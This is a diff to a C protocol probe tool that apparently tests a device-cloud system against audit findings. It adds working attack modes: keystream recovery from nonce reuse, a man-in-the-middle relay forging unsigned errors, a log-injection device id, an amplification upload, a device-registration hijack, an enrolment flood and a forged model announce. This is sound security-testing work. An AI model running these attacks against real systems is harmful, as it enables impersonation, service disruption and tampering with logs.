@@ -8,7 +8,9 @@
  *              status|register DEV|nan-upload DEV|oversize BYTES|
  *              unsigned|forged|replay|badtoken DEV|other-device A B|
  *              bignorm-upload DEV|upload DEV [REQID]|flood DEV N|
- *              burst DEV N [FIRST]
+ *              burst DEV N [FIRST]|hijack DEV KEYFILE USER|
+ *              amplify BYTES|mitm CLOUD-EP SECS (EP: where to listen)|forge-log|norm-upload DEV REQID X (every entry X)|nonce-reuse DEV N|enroll-flood N|announce VERSION (EP: a PUB
+ *              endpoint to bind)
  *
  * burst sends N uploads of DEV (request ids FIRST..FIRST+N-1, FIRST
  * defaulting to 1000) and the first
@@ -27,7 +29,9 @@
  */
 #include <errno.h>
 #include <nanomsg/nn.h>
+#include <nanomsg/pubsub.h>
 #include <nanomsg/reqrep.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -259,6 +263,180 @@ send_as(const char *id, Dccl__Envelope *e)
 	return a != NULL ? send_dev(a, e) : send_env(e);
 }
 
+/* The packed inner envelope of an unsealed reply: what the cloud sealed. */
+static uint8_t *
+inner_bytes(const Dccl__Envelope *e, size_t *n)
+{
+	Dccl__Envelope in = DCCL__ENVELOPE__INIT;
+	uint8_t *b;
+	void *body;
+
+	memcpy(&body, &e->error, sizeof(body));
+	in.body_case = e->body_case;
+	memcpy(&in.error, &body, sizeof(body));
+	*n = dccl__envelope__get_packed_size(&in);
+	if ((b = malloc(*n ? *n : 1)) != NULL)
+		dccl__envelope__pack(&in, b);
+	return b;
+}
+
+/*
+ * The nonce-reuse attack (issue 13, finding 7), auth.mode=encrypt: one
+ * sealed GetStatus, then the same bytes resent (as a captured message would
+ * be) until the cloud answers with a sealed E_RATE_LIMITED for the same
+ * counter. An eavesdropper who guesses that short error (here: the
+ * device's own decryption of it) XORs both ciphertexts with it; when they
+ * share a keystream, that yields the first reply's plaintext. Prints
+ * "KEYSTREAM-REUSED n" (bytes recovered) or "NO-REUSE".
+ */
+static int
+nonce_reuse(struct auth_dev *a, Dccl__Envelope *e, int max)
+{
+	Dccl__Envelope *r[2] = { NULL, NULL };
+	void *msg, *raw[2] = { NULL, NULL };
+	size_t len, n[2], m;
+	uint8_t *p[2] = { NULL, NULL };
+	int got = 0, rc = 1;
+
+	if (a == NULL || a->mode != AUTH_ENCRYPT) {
+		printf("NOT-ENCRYPTED\n");
+		return 1;
+	}
+	if (auth_dev_pack(a, e, &msg, &len) != 0)
+		return 1;
+	for (int i = 0; i < max && got < 2; i++) {
+		Dccl__Envelope *x;
+		void *xr;
+		size_t xl;
+		if (nn_send(sock, msg, len, 0) < 0 ||
+		    recv_reply(&x, &xr, &xl) != 0)
+			break;
+		if (auth_dev_check(a, xr, xl, x, e->counter,
+		    e->body_case) != 1 || x->sealed.len == 0 ||
+		    (got == 1 && x->body_case !=
+		    DCCL__ENVELOPE__BODY_ERROR)) {
+			wire_free(x);
+			nn_freemsg(xr);
+			continue;
+		}
+		r[got] = x;
+		raw[got] = xr;
+		got++;
+	}
+	nn_freemsg(msg);
+	if (got < 2) {
+		printf("NO-SECOND-REPLY\n");
+		goto out;
+	}
+	for (int k = 0; k < 2; k++)
+		if ((p[k] = inner_bytes(r[k], &n[k])) == NULL)
+			goto out;
+	m = n[0] < n[1] ? n[0] : n[1];
+	if (r[0]->sealed.len < m)
+		m = r[0]->sealed.len;
+	if (r[1]->sealed.len < m)
+		m = r[1]->sealed.len;
+	{
+		size_t ok = 0;
+		while (ok < m && (r[0]->sealed.data[ok] ^
+		    r[1]->sealed.data[ok] ^ p[1][ok]) == p[0][ok])
+			ok++;
+		if (ok == m && m > 0)
+			printf("KEYSTREAM-REUSED %zu\n", ok);
+		else
+			printf("NO-REUSE\n");
+	}
+	rc = 0;
+out:
+	for (int k = 0; k < 2; k++) {
+		free(p[k]);
+		if (r[k] != NULL) {
+			wire_free(r[k]);
+			nn_freemsg(raw[k]);
+		}
+	}
+	return rc;
+}
+
+/*
+ * An on-path attacker without keys (issue 13, finding 6): a raw REP
+ * socket on front forwards every request to the cloud at back and every
+ * reply back, except an UploadPatch, which it answers itself with an
+ * unsigned E_BAD_TENSOR. Runs for secs seconds, then prints "MITM
+ * forwarded N refused-uploads M".
+ */
+static int
+mitm(const char *front, const char *back, int secs)
+{
+	int fs = nn_socket(AF_SP_RAW, NN_REP), bs = nn_socket(AF_SP_RAW,
+	    NN_REQ), fwd = 0, refused = 0;
+	time_t end = time(NULL) + secs;
+
+	if (fs < 0 || bs < 0 || nn_bind(fs, front) < 0 ||
+	    nn_connect(bs, back) < 0) {
+		fprintf(stderr, "dccl-probe: mitm: %s\n",
+		    nn_strerror(nn_errno()));
+		return 1;
+	}
+	while (time(NULL) < end) {
+		struct nn_pollfd pfd[2] = { { fs, NN_POLLIN, 0 },
+		    { bs, NN_POLLIN, 0 } };
+		if (nn_poll(pfd, 2, 200) <= 0)
+			continue;
+		for (int k = 0; k < 2; k++) {
+			struct nn_msghdr h;
+			struct nn_iovec iov;
+			void *body = NULL, *ctl = NULL;
+			int n, from = k == 0 ? fs : bs, to = k == 0 ? bs : fs;
+			Dccl__Envelope *e = NULL;
+			char err[128];
+			if (!(pfd[k].revents & NN_POLLIN))
+				continue;
+			memset(&h, 0, sizeof(h));
+			iov.iov_base = &body;
+			iov.iov_len = NN_MSG;
+			h.msg_iov = &iov;
+			h.msg_iovlen = 1;
+			h.msg_control = &ctl;
+			h.msg_controllen = NN_MSG;
+			if ((n = nn_recvmsg(from, &h, NN_DONTWAIT)) < 0)
+				continue;
+			if (k == 0 && wire_unpack(body, (size_t)n, &e, err,
+			    sizeof(err)) == 0 && e->sealed.len == 0 &&
+			    e->body_case == DCCL__ENVELOPE__BODY_UPLOAD) {
+				/* Answer it ourselves, unsigned. */
+				Dccl__Envelope r = DCCL__ENVELOPE__INIT;
+				Dccl__Error er = DCCL__ERROR__INIT;
+				void *msg;
+				size_t len;
+				r.version = WIRE_VERSION;
+				r.device_id = e->device_id;
+				r.request_id = e->request_id;
+				er.code = DCCL__ERROR_CODE__E_BAD_TENSOR;
+				er.message = "patch refused";
+				r.body_case = DCCL__ENVELOPE__BODY_ERROR;
+				r.error = &er;
+				if (wire_pack_nn(&r, &msg, &len) == 0) {
+					nn_freemsg(body);
+					body = msg;
+					to = fs;
+					refused++;
+				}
+			} else
+				fwd++;
+			wire_free(e);
+			if (nn_sendmsg(to, &h, 0) < 0) {
+				nn_freemsg(body);
+				nn_freemsg(ctl);
+			}
+		}
+	}
+	printf("MITM forwarded %d refused-uploads %d\n", fwd, refused);
+	nn_close(fs);
+	nn_close(bs);
+	return 0;
+}
+
 int
 main(int argc, char **argv)
 {
@@ -287,7 +465,8 @@ main(int argc, char **argv)
 		token = NULL;
 	if ((sock = nn_socket(AF_SP, NN_REQ)) < 0 ||
 	    nn_setsockopt(sock, NN_SOL_SOCKET, NN_RCVTIMEO, &tmo,
-	    sizeof(tmo)) < 0 || nn_connect(sock, ep) < 0) {
+	    sizeof(tmo)) < 0 || (strcmp(what, "announce") != 0 &&
+	    strcmp(what, "mitm") != 0 && nn_connect(sock, ep) < 0)) {
 		fprintf(stderr, "dccl-probe: %s\n", nn_strerror(nn_errno()));
 		return 1;
 	}
@@ -304,6 +483,41 @@ main(int argc, char **argv)
 		char *big_msg = calloc(n, 1);
 		int rc = exchange(big_msg, n);
 		free(big_msg);
+		return rc;
+	} else if (!strcmp(what, "forge-log")) {
+		/* A device id that would end the log line and forge one. */
+		e.device_id = "x\n1970-01-01T00:00:00.000Z info cloudd[1]: "
+		    "FORGED-LINE";
+		return send_env(&e);
+	} else if (!strcmp(what, "amplify") && argc > 3) {
+		/*
+		 * An unauthenticated upload of BYTES of empty tensors (two
+		 * bytes each on the wire, a struct each once unpacked).
+		 */
+		size_t n = strtoul(argv[3], NULL, 10), k = 0, body;
+		uint8_t *b = malloc(n + 32);
+		int rc;
+		if (b == NULL || n < 64)
+			return 2;
+		body = n - 16;
+		b[k++] = 0x08; b[k++] = WIRE_VERSION;		/* version */
+		b[k++] = 0x12; b[k++] = 1; b[k++] = 'a';	/* device id */
+		b[k++] = 0x8a; b[k++] = 0x01;			/* upload (17) */
+		for (int sh = 0; ; sh += 7) {			/* its length */
+			uint8_t c = (uint8_t)((body >> sh) & 0x7f);
+			if ((body >> sh) >> 7) {
+				b[k++] = c | 0x80;
+				continue;
+			}
+			b[k++] = c;
+			break;
+		}
+		for (size_t i = 0; i + 1 < body; i += 2) {
+			b[k++] = 0x12;	/* tensors (2), empty */
+			b[k++] = 0x00;
+		}
+		rc = exchange(b, k);
+		free(b);
 		return rc;
 	} else if (!strcmp(what, "version")) {
 		e.version = 99;
@@ -367,6 +581,117 @@ main(int argc, char **argv)
 			nn_freemsg(raw);
 			return 0;
 		}
+	} else if (!strcmp(what, "hijack") && argc > 5) {
+		/*
+		 * A token holder's attack on an enrolled device DEV (issue
+		 * 13): a RegisterReq carrying DEV's public key (sent in clear
+		 * in every RegisterReq; read here from DEV's key file), a new
+		 * user and counter INT64_MAX, MACed with the token key only.
+		 */
+		struct auth_dev v;
+		struct auth_seal sl;
+		void *msg;
+		size_t len;
+		int rc;
+		if (token == NULL || auth_dev_open(&v, argv[4], NULL,
+		    AUTH_MAC) != 0) {
+			fprintf(stderr, "dccl-probe: hijack: needs the token "
+			    "and DEV's key file\n");
+			return 2;
+		}
+		e.device_id = argv[3];
+		rg.user_id = (uint32_t)strtoul(argv[5], NULL, 10);
+		rg.pubkey.data = v.pk;
+		rg.pubkey.len = 32;
+		e.body_case = DCCL__ENVELOPE__BODY_REGISTER_REQ;
+		e.register_req = &rg;
+		memset(&sl, 0, sizeof(sl));
+		sl.mode = AUTH_MAC;
+		sl.dir = AUTH_UP;
+		sl.counter = INT64_MAX;
+		auth_token_key(token, &sl.key);
+		if (auth_pack_nn(&e, &sl, &msg, &len) != 0)
+			return 1;
+		rc = exchange(msg, len);
+		nn_freemsg(msg);
+		return rc;
+	} else if (!strcmp(what, "enroll-flood") && argc > 3) {
+		/* N first enrolments of fresh ids, back to back. */
+		int n = atoi(argv[3]), ok = 0, limited = 0, other = 0;
+		const char *dir = getenv("DCCL_PROBE_DIR");
+		for (int i = 0; i < n && token != NULL; i++) {
+			struct auth_dev a;
+			Dccl__Envelope *r;
+			void *msg, *raw;
+			size_t len, rawlen;
+			char path[1024], id[32];
+			snprintf(id, sizeof(id), "ef-%d", i);
+			snprintf(path, sizeof(path), "%s/%s.key", dir ? dir :
+			    ".", id);
+			if (auth_dev_open(&a, path, token, AUTH_MAC) != 0)
+				return 1;
+			e.device_id = id;
+			rg.pubkey.data = a.pk;
+			rg.pubkey.len = 32;
+			e.body_case = DCCL__ENVELOPE__BODY_REGISTER_REQ;
+			e.register_req = &rg;
+			if (auth_dev_pack(&a, &e, &msg, &len) != 0 ||
+			    nn_send(sock, &msg, NN_MSG, 0) < 0 ||
+			    recv_reply(&r, &raw, &rawlen) != 0) {
+				other++;
+				continue;
+			}
+			if (r->body_case == DCCL__ENVELOPE__BODY_REGISTERED)
+				ok++;
+			else if (r->body_case == DCCL__ENVELOPE__BODY_ERROR &&
+			    r->error->code ==
+			    DCCL__ERROR_CODE__E_RATE_LIMITED)
+				limited++;
+			else
+				other++;
+			wire_free(r);
+			nn_freemsg(raw);
+		}
+		printf("ENROLL-FLOOD ok %d rate-limited %d other %d\n", ok,
+		    limited, other);
+		return 0;
+	} else if (!strcmp(what, "mitm") && argc > 4) {
+		return mitm(ep, argv[3], atoi(argv[4]));
+	} else if (!strcmp(what, "announce") && argc > 3) {
+		/*
+		 * A forged, unsigned ModelAnnounce of version ARG published
+		 * on ENDPOINT (bound here, as a rogue publisher would):
+		 * five times over a second, once the subscribers connected.
+		 */
+		Dccl__ModelAnnounce an = DCCL__MODEL_ANNOUNCE__INIT;
+		int pub = nn_socket(AF_SP, NN_PUB);
+		struct timespec ts = { 0, 200 * 1000 * 1000 };
+		if (pub < 0 || nn_bind(pub, ep) < 0) {
+			fprintf(stderr, "dccl-probe: %s\n",
+			    nn_strerror(nn_errno()));
+			return 1;
+		}
+		e.device_id = "cloudd";
+		an.version = strtoull(argv[3], NULL, 10);
+		e.body_case = DCCL__ENVELOPE__BODY_ANNOUNCE;
+		e.announce = &an;
+		for (int i = 0; i < 10; i++) {
+			void *msg;
+			size_t len;
+			nanosleep(&ts, NULL);
+			if (i < 5)
+				continue;	/* let the SUBs connect */
+			if (wire_pack_nn(&e, &msg, &len) != 0 ||
+			    nn_send(pub, &msg, NN_MSG, 0) < 0)
+				return 1;
+		}
+		nanosleep(&ts, NULL);
+		nn_close(pub);
+		printf("ANNOUNCED %s\n", argv[3]);
+		return 0;
+	} else if (!strcmp(what, "nonce-reuse") && argc > 4) {
+		e.device_id = argv[3];
+		return nonce_reuse(device(e.device_id, 1), &e, atoi(argv[4]));
 	} else if (!strcmp(what, "badtoken") && argc > 3) {
 		/* Enrolment with the wrong token. */
 		struct auth_dev a;
@@ -452,8 +777,8 @@ main(int argc, char **argv)
 		    other);
 		return 0;
 	} else if ((!strcmp(what, "nan-upload") || !strcmp(what, "upload") ||
-	    !strcmp(what, "bignorm-upload") || !strcmp(what, "burst")) &&
-	    argc > 3) {
+	    !strcmp(what, "bignorm-upload") || !strcmp(what, "burst") ||
+	    (!strcmp(what, "norm-upload") && argc > 5)) && argc > 3) {
 		e.device_id = argv[3];
 		if (argc > 4 && strcmp(what, "burst") != 0)
 			/* upload DEV REQUEST-ID */
@@ -470,7 +795,9 @@ main(int argc, char **argv)
 			/* The model's shape (2 hidden layers, rank 16), a
 			 * norm of 1000 * sqrt(32). */
 			for (int i = 0; i < 16; i++)
-				big[i] = strcmp(what, "bignorm-upload") ?
+				big[i] = !strcmp(what, "norm-upload") ?
+				    strtof(argv[5], NULL) :
+				    strcmp(what, "bignorm-upload") ?
 				    0.01f : 1000.0f;
 			t.name = "patch_m0";
 			t2.name = "patch_m1";
